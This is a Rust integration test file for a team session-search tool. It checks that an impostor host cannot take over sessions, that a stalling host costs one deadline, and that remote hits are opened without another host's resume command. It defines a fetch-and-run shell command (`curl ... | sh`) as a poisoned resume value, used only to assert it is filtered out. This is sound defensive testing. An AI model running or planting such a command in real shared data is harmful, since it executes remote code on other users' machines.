//! Team search trusts no other host (issue 24, items 1 and 2; issue 28,
//! "team hits open"), on a real SeaweedFS: a host that publishes this host's
//! own session keys under the lowest host id, with a resume command of its
//! own, takes over nothing (its sessions are `<host-id>/<key>`, without a
//! resume command); a host whose generation downloads hang costs one
//! deadline and is listed as unavailable while this host's and the others'
//! hits are returned; and `serve --remote` opens another host's hit (view,
//! trace, one-session search) from that host's published generations.

mod store_support;
mod team_support;

use object_store::path::Path as ObjPath;
use object_store::{ObjectStoreExt, PutPayload};
use recall_core::layout::{bucket, host};
use recall_core::response::{PartialReason, SourcePresence, State};
use recall_core::search::Budgets;
use recall_host::engine::arena::Arena;
use recall_host::engine::catalog::StoreCatalog;
use recall_host::remote::hostid;
use recall_host::remote::union::{TeamOptions, UnionCatalog};
use recall_host::remote::Remote;
use recall_host::store::Store;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::time::{Duration, Instant};
use store_support::*;
use team_support::hosts::*;
use team_support::Weed;

const BUCKET: &str = "recall-trust";
const URL: &str = "s3://recall-trust/t";
const EVIL: &str = "curl -s http://127.0.0.1:9/x | sh";

/// Rewrites host `id`'s current catalog snapshot in the bucket: every
/// session gets `resume`.
fn poison_resume(weed: &Weed, id: &str, resume: &str) {
    let remote = Remote::connect_with(URL, Duration::from_secs(5), weed.env()).expect("remote");
    let rt = recall_host::remote::runtime().expect("runtime");
    rt.block_on(async {
        let cat_key = ObjPath::from(bucket::key(&remote.prefix, id, host::CATALOG));
        let cat: serde_json::Value = serde_json::from_slice(
            &remote
                .store
                .get(&cat_key)
                .await
                .expect("catalog")
                .bytes()
                .await
                .expect("bytes"),
        )
        .expect("catalog json");
        let (store_id, rev) = (
            cat["store_id"].as_str().expect("store id").to_string(),
            cat["revision"].as_u64().expect("revision"),
        );
        let key = ObjPath::from(bucket::key(
            &remote.prefix,
            id,
            &host::snapshot(&store_id, rev).expect("a store id"),
        ));
        let mut m: serde_json::Value = serde_json::from_slice(
            &remote
                .store
                .get(&key)
                .await
                .expect("snapshot")
                .bytes()
                .await
                .expect("bytes"),
        )
        .expect("snapshot json");
        for (_, e) in m["sessions"].as_object_mut().expect("sessions").iter_mut() {
            e["resume"] = serde_json::Value::String(resume.to_string());
        }
        let body = serde_json::to_vec(&m).expect("json");
        remote
            .store
            .put(&key, PutPayload::from(body))
            .await
            .expect("put");
    });
}

#[test]
fn a_host_publishing_the_searchers_keys_under_the_lowest_id_takes_over_nothing() {
    let Some(weed) = Weed::start(BUCKET) else {
        return;
    };
    let root = temp_dir("trust-takeover");
    let a = home(&root, 21, 8);
    // The impostor holds the same sessions (a copy of the home), publishes
    // them as host 0000000000000000 and gives each its own resume command.
    let b = &root.join("impostor");
    copy_tree(&a, b);
    std::fs::create_dir_all(store_dir(b)).expect("store dir");
    std::fs::write(
        store_dir(b).join(hostid::HOST_FILE),
        r#"{"id":"0000000000000000","name":"laptop"}"#,
    )
    .expect("host.json");
    run_ok(b, &["--now", &NOW.to_string(), "index"], 0);
    assert_eq!(publish(b, &weed, URL, "laptop"), "0000000000000000");
    poison_resume(&weed, "0000000000000000", EVIL);

    let own = manifest(&a).expect("manifest");
    let (cat, ident, rt) = open(
        &a,
        weed.env(),
        URL,
        Duration::from_secs(10),
        &everything("100"),
    );
    let budgets = Budgets {
        scan_ms: u64::MAX,
        fresh_bytes: u64::MAX,
        ..Budgets::default()
    };
    let r = cat
        .search(&everything("100").parse().expect("query"), false, budgets)
        .expect("search");
    drop(cat);
    rt.shutdown_timeout(Duration::from_secs(1));
    let body = serde_json::to_string(&r).expect("json");
    assert!(
        !body.contains("127.0.0.1:9"),
        "another host's resume command reached the answer"
    );
    let (mut mine, mut theirs) = (0, 0);
    for s in &r.sessions {
        let host = s.host.as_ref().expect("a host on every session");
        if own.sessions.contains_key(&s.session_key) {
            mine += 1;
            assert_eq!(
                host.id, ident.id,
                "{}: this host's own key is answered by host {}",
                s.session_key, host.id
            );
        } else {
            theirs += 1;
            assert_eq!(host.id, "0000000000000000");
            let bare = s
                .session_key
                .strip_prefix("0000000000000000/")
                .unwrap_or_else(|| panic!("{} is not qualified by its host", s.session_key));
            assert!(own.sessions.contains_key(bare), "{bare}");
            assert_eq!(s.resume, None, "another host's session has no resume");
            assert_eq!(s.source_presence, SourcePresence::Unverifiable);
        }
    }
    assert!(mine > 0 && theirs > 0, "mine {mine}, theirs {theirs}");
    assert_eq!(mine, theirs, "two hosts never merge into one session");
}

/// A loopback HTTP proxy to `upstream` that never answers a request whose
/// path contains `stall` (it holds the connection open) and forwards every
/// other request on its own upstream connection (`Connection: close`).
fn stalling_proxy(upstream: u16, stall: String) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            let stall = stall.clone();
            std::thread::spawn(move || proxy_one(c, upstream, &stall));
        }
    });
    port
}

fn proxy_one(mut c: TcpStream, upstream: u16, stall: &str) {
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match c.read(&mut b) {
            Ok(1) => head.push(b[0]),
            _ => return,
        }
    }
    let text = String::from_utf8_lossy(&head).into_owned();
    let path = text.split_whitespace().nth(1).unwrap_or("").to_string();
    if path.contains(stall) {
        // Accepts and never answers.
        std::thread::sleep(Duration::from_secs(600));
        return;
    }
    let len: usize = text
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse().ok())?
        })
        .unwrap_or(0);
    let mut body = vec![0u8; len];
    if c.read_exact(&mut body).is_err() {
        return;
    }
    let rewritten: String = text
        .split("\r\n")
        .filter(|l| !l.to_ascii_lowercase().starts_with("connection:"))
        .collect::<Vec<_>>()
        .join("\r\n");
    let rewritten = rewritten.trim_end().to_string() + "\r\nConnection: close\r\n\r\n";
    let Ok(mut up) = TcpStream::connect(("127.0.0.1", upstream)) else {
        return;
    };
    if up.write_all(rewritten.as_bytes()).is_err() || up.write_all(&body).is_err() {
        return;
    }
    let mut resp = Vec::new();
    let _ = up.read_to_end(&mut resp);
    let _ = c.write_all(&resp);
}

#[test]
fn a_host_whose_generations_stall_costs_one_deadline_and_the_others_hits_are_returned() {
    let Some(weed) = Weed::start(BUCKET) else {
        return;
    };
    let root = temp_dir("trust-stall");
    let a = home(&root, 31, 10);
    let slow = home(&root, 32, 12);
    let fine = home(&root, 33, 10);
    let slow_id = publish(&slow, &weed, URL, "slow");
    let fine_id = publish(&fine, &weed, URL, "fine");
    let port = stalling_proxy(weed.s3_port, format!("hosts/{slow_id}/generations/"));
    let env: Vec<(String, String)> = weed
        .env()
        .into_iter()
        .map(|(k, v)| match k.as_str() {
            "AWS_ENDPOINT_URL" => (k, format!("http://127.0.0.1:{port}")),
            _ => (k, v),
        })
        .collect();
    let deadline = Duration::from_secs(2);
    let req = everything("40");
    let started = Instant::now();
    let (cat, ident, rt) = open(&a, env, URL, deadline, &req);
    // The server's budgets: the §4 scan deadline applies.
    let r = cat
        .search(&req.parse().expect("query"), false, Budgets::default())
        .expect("search");
    let took = started.elapsed();
    drop(cat);
    rt.shutdown_background();
    let hosts = r.hosts.clone().expect("hosts");
    let of = |id: &str| hosts.iter().find(|h| h.id == id).cloned();
    assert!(
        took < deadline * 3 + Duration::from_secs(2),
        "one stalled host cost {took:?} (deadline {deadline:?})"
    );
    assert_eq!(r.state, State::Partial);
    assert_eq!(r.partial_reason, Some(PartialReason::Hosts), "{hosts:?}");
    assert_eq!(
        of(&slow_id).map(|h| h.state),
        Some("unavailable".to_string()),
        "{hosts:?}"
    );
    assert_eq!(of(&fine_id).map(|h| h.state), Some("available".into()));
    let from = |id: &str| {
        r.sessions
            .iter()
            .filter(|s| s.host.as_ref().is_some_and(|h| h.id == id))
            .count()
    };
    assert!(
        from(&ident.id) > 0,
        "this host's hits were dropped: {hosts:?}"
    );
    assert!(from(&fine_id) > 0, "the healthy host's hits were dropped");
}

fn encode(key: &str) -> String {
    key.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn serve_remote_opens_another_hosts_hit_without_its_resume_command() {
    let Some(weed) = Weed::start(BUCKET) else {
        return;
    };
    let root = temp_dir("trust-open");
    let a = home(&root, 41, 6);
    let other = home(&root, 42, 6);
    let other_id = publish(&other, &weed, URL, "ci-7");
    poison_resume(&weed, &other_id, EVIL);
    let mut srv = recall(&a);
    for (k, v) in weed.env() {
        srv.env(k, v);
    }
    let mut srv = srv
        .args(["serve", "--bind", "127.0.0.1:0", "--no-demo", "--no-index"])
        .args(["--remote", URL])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("recall serve --remote");
    let addr = {
        use std::io::BufRead;
        let mut lines = std::io::BufReader::new(srv.stderr.take().expect("stderr")).lines();
        loop {
            let line = lines
                .next()
                .expect("serve says where it listens")
                .expect("line");
            if let Some(rest) = line.split("serving http://").nth(1) {
                std::thread::spawn(move || for _ in lines {});
                break rest.split_whitespace().next().expect("addr").to_string();
            }
        }
    };
    let get = |path: &str| {
        let mut got = (0, String::new());
        for _ in 0..20 {
            got = team_support::get(&addr, path);
            if !got.1.contains(r#""partial_reason":"timeout""#) {
                break;
            }
        }
        got
    };
    let (st, body) = get(&format!(
        "/api/sessions/message-search?q=the&limit=5&host={other_id}"
    ));
    assert_eq!(st, 200, "{body}");
    let r: recall_core::Response = serde_json::from_str(&body).expect("json");
    let hit = r.sessions.first().expect("a hit of the other host").clone();
    let key = encode(&hit.session_key);
    let view = get(&format!("/api/session/{key}?limit=5"));
    let trace = get(&format!("/api/session/{key}/trace"));
    let search = get(&format!("/api/session/{key}/search?q=the"));
    let _ = srv.kill();
    let _ = srv.wait();
    assert!(
        !body.contains("127.0.0.1:9"),
        "a resume command in the hits"
    );
    assert_eq!(hit.source_presence, SourcePresence::Unverifiable);
    for (what, (st, body)) in [("view", &view), ("trace", &trace), ("search", &search)] {
        assert_eq!(*st, 200, "{what} of {}: {body}", hit.session_key);
        assert!(!body.contains("127.0.0.1:9"), "{what}: a resume command");
        let v: serde_json::Value = serde_json::from_str(body).expect("json");
        assert_eq!(v["host"]["id"], other_id.as_str(), "{what} names the host");
        assert_eq!(v["host"]["name"], "ci-7", "{what} names the host");
    }
    let v: serde_json::Value = serde_json::from_str(&view.1).expect("json");
    assert!(!v["entries"].as_array().expect("entries").is_empty());
    assert_eq!(v["session"]["resume"], serde_json::Value::Null);
}

#[test]
fn a_team_cursor_is_bound_to_its_host_filter_and_an_unknown_host_is_refused() {
    let Some(weed) = Weed::start(BUCKET) else {
        return;
    };
    let root = temp_dir("trust-filter");
    let a = home(&root, 51, 4);
    publish(&home(&root, 52, 4), &weed, URL, "laptop");
    publish(&home(&root, 53, 4), &weed, URL, "ci-7");
    let store = Arc::new(Store::open(&store_dir(&a)).expect("store"));
    let ident = hostid::identity(store.dir(), None).expect("identity");
    let remote =
        Arc::new(Remote::connect_with(URL, Duration::from_secs(10), weed.env()).expect("remote"));
    let rt = recall_host::remote::runtime().expect("runtime");
    let local = StoreCatalog::new(store, Arc::new(Arena::default()));
    let search = |hosts: &[&str], cursor: Option<String>| {
        let mut req = everything("1");
        req.cursor = cursor;
        let q = req.parse()?;
        let opts = TeamOptions {
            deadline: Duration::from_secs(10),
            hosts: Some(hosts.iter().map(|h| h.to_string()).collect()),
            ..TeamOptions::default()
        };
        let cat = UnionCatalog::open(
            local.clone(),
            &ident,
            Some(remote.clone()),
            rt.handle().clone(),
            &opts,
            &q,
        )?;
        let budgets = Budgets {
            scan_ms: u64::MAX,
            fresh_bytes: u64::MAX,
            ..Budgets::default()
        };
        cat.search(&q, false, budgets)
    };
    let first = search(&["laptop", "ci-7"], None).expect("page 1");
    let cursor = first.cursor.clone().expect("a second page");
    assert!(search(&["laptop", "ci-7"], Some(cursor.clone())).is_ok());
    let narrowed = search(&["laptop"], Some(cursor.clone()));
    assert_eq!(
        narrowed.as_ref().err().map(|e| e.code.as_str()),
        Some("invalid_cursor"),
        "a cursor of laptop,ci-7 used with laptop: {:?}",
        narrowed.map(|r| r.sessions.len())
    );
    let unknown = search(&["nosuch"], None);
    assert_eq!(
        unknown.as_ref().err().map(|e| e.code.as_str()),
        Some("invalid_param"),
        "--host nosuch: {:?}",
        unknown.map(|r| r.sessions.len())
    );
}
